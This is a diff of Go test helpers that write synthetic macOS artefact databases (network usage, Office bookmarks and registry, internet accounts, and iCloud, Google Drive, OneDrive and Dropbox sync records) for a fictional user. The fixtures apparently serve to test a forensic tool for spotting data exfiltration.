+		`CREATE TABLE ZLIVEUSAGE (Z_PK INTEGER PRIMARY KEY, Z_ENT INTEGER, Z_OPT INTEGER, ZKIND INTEGER, ZMETADATA INTEGER, ZTAG INTEGER, ZHASPROCESS INTEGER, ZTIMESTAMP TIMESTAMP, ZWIFIIN FLOAT, ZWIFIOUT FLOAT, ZWIREDIN FLOAT, ZWIREDOUT FLOAT, ZWWANIN FLOAT, ZWWANOUT FLOAT)`,
+		`INSERT INTO ZPROCESS VALUES (1, 9, 1, 594000000, 617965200, 'com.apple.Safari', 'Safari')`,
+		`INSERT INTO ZPROCESS VALUES (2, 9, 1, 617964000, 617967000.5, NULL, 'rclone')`,
+		`INSERT INTO ZPROCESS VALUES (3, 9, 1, 600000000, 600000000, NULL, 'mDNSResponder')`,
+		`INSERT INTO ZLIVEUSAGE VALUES (1, 7, 1, 0, 0, 0, 1, 617965200, 1048576, 65536, 0, 0, 0, 0)`,
+		`INSERT INTO ZLIVEUSAGE VALUES (2, 7, 1, 0, 0, 0, 2, 617965800, 4096, 524288000, 0, 0, 0, 0)`,
+		`INSERT INTO ZLIVEUSAGE VALUES (3, 7, 1, 0, 0, 0, 2, 617967000, 2048, 262144000, 8192, 1048576, 0, 0)`,
+	)
+}
+
+// officeSecureBookmarks writes the securebookmarks plist of an Office app with the documents and the time they were
+// last opened
+func officeSecureBookmarks(documents map[string]time.Time) func(string) error {
+	return func(fp string) error {
+		bookmarks := map[string]interface{}{}
+		for path, lastUsed := range documents {
+			bookmarks["file://"+path] = map[string]interface{}{
+				"kBookmarkDataKey": bookmark(path, lastUsed.Add(-72*time.Hour), ""),
+				"kLastUsedDateKey": lastUsed,
+				"kUUIDKey":         fmt.Sprintf("3F2A%04X-7C1D-4B8E-9A55-0E6B2C4D8F10", len(path)),
+			}
+		}
+		b, err := plist.Marshal(bookmarks, plist.BinaryFormat)
+		if err != nil {
+			return err
+		}
+		return ioutil.WriteFile(fp, b, 0644)
+	}
+}
+
+// microsoftRegistrationDB writes an Office registry with a text, UTF-16 blob, DWORD and binary value
+func microsoftRegistrationDB(fp string) error {
+	// FILETIMEs, 132407460000000000 is 2020-08-01T09:00:00Z
+	return sqlite(fp,
+		`CREATE TABLE HKEY_CURRENT_USER (node_id INTEGER PRIMARY KEY, parent_id INTEGER, name TEXT, write_time INTEGER)`,
+		`CREATE TABLE HKEY_CURRENT_USER_values (node_id INTEGER, name TEXT, type INTEGER, value BLOB)`,
+		`INSERT INTO HKEY_CURRENT_USER VALUES (1, NULL, 'Software', 132207012000000000)`,
+		`INSERT INTO HKEY_CURRENT_USER VALUES (2, 1, 'Microsoft', 132207012000000000)`,
+		`INSERT INTO HKEY_CURRENT_USER VALUES (3, 2, 'Office', 132207012000000000)`,
+		`INSERT INTO HKEY_CURRENT_USER VALUES (4, 3, '16.0', 132207012000000000)`,
+		`INSERT INTO HKEY_CURRENT_USER VALUES (5, 4, 'Common', 132407460000000000)`,
+		`INSERT INTO HKEY_CURRENT_USER VALUES (6, 5, 'Identity', 132407460000000000)`,
+		`INSERT INTO HKEY_CURRENT_USER VALUES (7, 4, 'Word', 132407496000000000)`,
+		`INSERT INTO HKEY_CURRENT_USER_values VALUES (6, 'ADUserName', 1, 'bob@example.com')`,
+		fmt.Sprintf(`INSERT INTO HKEY_CURRENT_USER_values VALUES (6, 'FriendlyName', 1, X'%x')`, utf16le("Bob Example\x00")),
+		`INSERT INTO HKEY_CURRENT_USER_values VALUES (7, 'AutoSaveEnabled', 4, 1)`,
+		`INSERT INTO HKEY_CURRENT_USER_values VALUES (7, 'WindowState', 3, X'0102FF')`,
+	)
+}
+
+// utf16le encodes s as UTF-16LE
+func utf16le(s string) []byte {
+	b := []byte{}
+	for _, u := range utf16.Encode([]rune(s)) {
+		b = append(b, byte(u), byte(u>>8))
+	}
+	return b
+}
+
+// internetAccounts writes an Accounts4.sqlite with an iCloud account, its CloudKit child account and a Google account
+func internetAccounts(fp string) error {
+	// Cocoa times, 594550800 is 2019-11-04T09:00:00Z
+	return sqlite(fp,
+		`CREATE TABLE ZACCOUNTTYPE (Z_PK INTEGER PRIMARY KEY, Z_ENT INTEGER, Z_OPT INTEGER, ZACCOUNTTYPEDESCRIPTION VARCHAR, ZIDENTIFIER VARCHAR)`,
+		`CREATE TABLE ZACCOUNT (Z_PK INTEGER PRIMARY KEY, Z_ENT INTEGER, Z_OPT INTEGER, ZACTIVE INTEGER, ZAUTHENTICATED INTEGER, ZVISIBLE INTEGER, ZACCOUNTTYPE INTEGER, ZPARENTACCOUNT INTEGER, ZDATE TIMESTAMP, ZACCOUNTDESCRIPTION VARCHAR, ZIDENTIFIER VARCHAR, ZOWNINGBUNDLEID VARCHAR, ZUSERNAME VARCHAR)`,
+		`INSERT INTO ZACCOUNTTYPE VALUES (1, 3, 1, 'iCloud', 'com.apple.account.AppleAccount')`,
+		`INSERT INTO ZACCOUNTTYPE VALUES (2, 3, 1, 'CloudKit', 'com.apple.account.CloudKit')`,
+		`INSERT INTO ZACCOUNTTYPE VALUES (3, 3, 1, 'Google', 'com.apple.account.Google')`,
+		`INSERT INTO ZACCOUNT VALUES (1, 2, 4, 1, 1, 1, 1, NULL, 594550800, 'iCloud', 'A6C8E1B2-3D4F-4A5B-8C9D-0E1F2A3B4C5D', 'com.apple.systempreferences', 'bob@icloud.com')`,
+		`INSERT INTO ZACCOUNT VALUES (2, 2, 2, 1, 1, 0, 2, 1, 594550805.5, NULL, 'F1E2D3C4-B5A6-4978-8695-A4B3C2D1E0F9', 'com.apple.cloudd', 'bob@icloud.com')`,
+		`INSERT INTO ZACCOUNT VALUES (3, 2, 3, 1, 0, 1, 3, NULL, 617965200, 'Google', '0A1B2C3D-4E5F-4061-8293-A4B5C6D7E8F9', NULL, 'bob.personal@gmail.com')`,
+	)
+}
+
+// iCloudDriveClientDB writes a CloudDocs client.db with two folders and three documents
+func iCloudDriveClientDB(fp string) error {
+	// Unix times, 1596272400 is 2020-08-01T09:00:00Z
+	return sqlite(fp,
+		`CREATE TABLE client_items (item_id TEXT, item_parent_id TEXT, item_filename TEXT, item_type INTEGER, item_birthtime INTEGER, item_lastusedtime INTEGER, version_mtime INTEGER, version_size INTEGER)`,
+		`INSERT INTO client_items VALUES ('__root__', NULL, '', 0, NULL, NULL, NULL, NULL)`,
+		`INSERT INTO client_items VALUES ('5D2B7C41-0B7E-4E55-9C2F-6A1D3E4F5A6B', '__root__', 'Documents', 0, 1572858000, 1596272400, 1596272400, NULL)`,
+		`INSERT INTO client_items VALUES ('8E3C9D52-1C8F-4F66-AD30-7B2E4F5A6B7C', '5D2B7C41-0B7E-4E55-9C2F-6A1D3E4F5A6B', 'passwords.xlsx', 1, 1580000000, 1596272400, 1596272400, 18432)`,
+		`INSERT INTO client_items VALUES ('9F4DAE63-2D90-4077-BE41-8C3F5A6B7C8D', '5D2B7C41-0B7E-4E55-9C2F-6A1D3E4F5A6B', 'Projects', 0, 1580000000, NULL, 1590000000, NULL)`,
+		`INSERT INTO client_items VALUES ('A05EBF74-3EA1-4188-CF52-9D4A6B7C8D9E', '9F4DAE63-2D90-4077-BE41-8C3F5A6B7C8D', 'roadmap.key', 1, 1590000000, 1596200000, 1596200000, 2457600)`,
+		`INSERT INTO client_items VALUES ('B16FC085-4FB2-4299-D063-AE5B7C8D9EAF', '__root__', 'export.zip', 1, 1596276000, 1596276000, 1596276000, 524288000)`,
+	)
+}
+
+// driveFSMetadata writes a Drive for desktop metadata_sqlite_db with My Drive, a folder, a file and a trashed file
+func driveFSMetadata(fp string) error {
+	// Unix milliseconds, 1596272400000 is 2020-08-01T09:00:00Z
+	return sqlite(fp,
+		`CREATE TABLE items (stable_id INTEGER PRIMARY KEY, id TEXT, trashed INTEGER, is_folder INTEGER, local_title TEXT, file_size INTEGER, modified_date INTEGER, mime_type TEXT)`,
+		`CREATE TABLE stable_parents (item_stable_id INTEGER, parent_stable_id INTEGER)`,
+		`INSERT INTO items VALUES (1, '0AJx8fK2mQZ1nUk9PVA', 0, 1, 'My Drive', NULL, 1572858000000, 'application/vnd.google-apps.folder')`,
+		`INSERT INTO items VALUES (2, '1Vq7nR3sT9uW2xY4zA6bC8dE0fG', 0, 1, 'Clients', NULL, 1590000000000, 'application/vnd.google-apps.folder')`,
+		`INSERT INTO items VALUES (3, '1Hj5kL7mN9pQ1rS3tU5vW7xY9zA', 0, 0, 'contract.pdf', 1048576, 1596272400000, 'application/pdf')`,
+		`INSERT INTO items VALUES (4, '1Bc2dE3fG4hI5jK6lM7nO8pQ9rS', 1, 0, 'customers.csv', 73400320, 1596276000500, 'text/csv')`,
+		`INSERT INTO stable_parents VALUES (2, 1)`,
+		`INSERT INTO stable_parents VALUES (3, 2)`,
+		`INSERT INTO stable_parents VALUES (4, 1)`,
+	)
+}
+
+// oneDriveSyncEngine writes a OneDrive SyncEngineDatabase.db with two folders and two files, the root folder is not
+// a record
+func oneDriveSyncEngine(fp string) error {
+	return sqlite(fp,
+		`CREATE TABLE od_ClientFolder_Records (parentResourceID TEXT, resourceID TEXT, eTag TEXT, folderName TEXT)`,
+		`CREATE TABLE od_ClientFile_Records (parentResourceID TEXT, resourceID TEXT, eTag TEXT, fileName TEXT, lastChange INTEGER, size INTEGER)`,
+		`INSERT INTO od_ClientFolder_Records VALUES ('9A1B2C3D4E5F6A7B!101', '9A1B2C3D4E5F6A7B!102', '"{A1}"', 'Documents')`,
+		`INSERT INTO od_ClientFolder_Records VALUES ('9A1B2C3D4E5F6A7B!102', '9A1B2C3D4E5F6A7B!103', '"{A2}"', 'Finance')`,
+		`INSERT INTO od_ClientFile_Records VALUES ('9A1B2C3D4E5F6A7B!103', '9A1B2C3D4E5F6A7B!104', '"{A3}"', 'Q2 forecast.xlsx', 1596272400, 48213)`,
+		`INSERT INTO od_ClientFile_Records VALUES ('9A1B2C3D4E5F6A7B!101', '9A1B2C3D4E5F6A7B!105', '"{A4}"', 'notes.txt', 1590000000, 512)`,
+	)
+}
+
+// dropboxSyncHistory writes a Dropbox sync_history.db with uploads of the personal and business folders and a download
+func dropboxSyncHistory(fp string) error {
+	return sqlite(fp,
+		`CREATE TABLE sync_history (id INTEGER PRIMARY KEY, file_event_type TEXT, direction TEXT, local_path TEXT, file_id TEXT, ns_id INTEGER, timestamp INTEGER, is_dir INTEGER)`,
+		`INSERT INTO sync_history VALUES (1, 'add', 'upload', '/Users/bob/Dropbox/Camera Uploads', 'id:AAAAAAAAAAAAAAAAAAAAAQ', 1234567, 1590000000, 1)`,
+		`INSERT INTO sync_history VALUES (2, 'add', 'upload', '/Users/bob/Dropbox/Camera Uploads/IMG_0001.HEIC', 'id:AAAAAAAAAAAAAAAAAAAAAg', 1234567, 1590000010, 0)`,
+		`INSERT INTO sync_history VALUES (3, 'add', 'upload', '/Users/bob/Dropbox (Example Corp)/Sales/pipeline.xlsx', 'id:BBBBBBBBBBBBBBBBBBBBBA', 7654321, 1596272400, 0)`,
+		`INSERT INTO sync_history VALUES (4, 'edit', 'download', '/Users/bob/Dropbox/todo.txt', 'id:AAAAAAAAAAAAAAAAAAAAAw', 1234567, 1596276000, 0)`,
+		`INSERT INTO sync_history VALUES (5, 'delete', 'upload', NULL, NULL, 1234567, NULL, NULL)`,
+	)
+}